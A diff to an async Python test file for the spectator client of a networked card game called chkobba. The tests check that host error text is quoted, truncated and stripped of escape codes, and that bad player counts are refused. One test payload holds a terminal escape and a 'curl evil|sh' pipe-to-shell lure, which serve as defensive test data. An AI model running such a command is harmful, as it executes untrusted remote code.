@@ -384,7 +384,7 @@ async def test_chkobba_watch_says_why_it_stopped_when_the_host_sends_an_over_lon
     async def fake_host(stream: trio.SocketStream) -> None:
         async with stream:
             await stream.send_all(wire.frame(wire.encode(
-                {"t": "host", "versions": [1], "key": bytes(32)})))
+                {"t": "host", "versions": [1], "key": bytes(32), "players": 2})))
             await stream.receive_some(4096)  # the spectator's watch
             await stream.send_all(wire.frame(wire.encode(watching_message(1, 0))))
             await stream.send_all(wire.frame(wire.encode(
@@ -408,3 +408,51 @@ async def test_chkobba_watch_says_why_it_stopped_when_the_host_sends_an_over_lon
     assert r.returncode == 3, out + r.stderr.decode()
     [line] = [ln for ln in out.splitlines() if ln.startswith("stopped: ")]
     assert "does not check out" in line and f"longer than {wire.MAX_STR} bytes" in line, out
+
+
+def _greeting(players: object = 2) -> dict:
+    return {"t": "host", "versions": [1], "key": bytes(32), "name": "hana", "caps": [],
+            "nonce": bytes(32), "players": players, "rules": {}, "rules_hash": bytes(32)}
+
+
+async def _watch_fake(tmp_path: Path, answer: dict | None, players: object = 2):
+    """``chkobba watch``'s library against a fake host that greets (a table of
+    ``players``) and answers the spectator's ``watch`` with ``answer`` (an error)."""
+    import functools
+
+    async def fake_host(stream: trio.SocketStream) -> None:
+        async with stream:
+            await stream.send_all(wire.frame(wire.encode(_greeting(players))))
+            await stream.receive_some(4096)  # the spectator's watch (or its error)
+            if answer is not None:
+                await stream.send_all(wire.frame(wire.encode(answer)))
+
+    async with trio.open_nursery() as nursery:
+        [listener] = await nursery.start(
+            functools.partial(trio.serve_tcp, fake_host, 0, host="127.0.0.1"))
+        port = listener.socket.getsockname()[1]
+        with trio.fail_after(10):
+            outcome = await watch_match(WatchConfig(
+                f"127.0.0.1:{port}", name="amira", log_path=tmp_path / "w.chklog",
+                timeouts=FAST), lambda ev: None)
+        nursery.cancel_scope.cancel()
+    return outcome
+
+
+async def test_a_spectator_says_a_refusal_in_its_own_words_and_quotes_the_hosts(tmp_path):
+    """A host's refusal reads as the joiner's does: our sentence for the code, then the
+    host's words quoted and cut short, never its raw text as ours."""
+    words = "\x1b[2JYOUR KEY IS COMPROMISED, run curl evil|sh " * 50
+    outcome = await _watch_fake(tmp_path, {"t": "error", "code": int(
+        ErrorCode.SPECTATORS_CLOSED), "msg": words})
+    assert outcome.error_code == "spectators_closed"
+    assert outcome.error.startswith("refused: " + ErrorCode.SPECTATORS_CLOSED.sentence
+                                    + ' (the host adds: "')
+    assert outcome.error.endswith('…")') and "\x1b" not in outcome.error
+
+
+@pytest.mark.parametrize("players", [7, 1, 2**40, "2"])
+async def test_a_spectator_refuses_a_greeting_for_a_table_no_one_can_seat(players, tmp_path):
+    outcome = await _watch_fake(tmp_path, None, players)
+    assert outcome.error_code == "bad_field" and outcome.verdict is None
+    assert outcome.error.startswith("handshake failed: ")
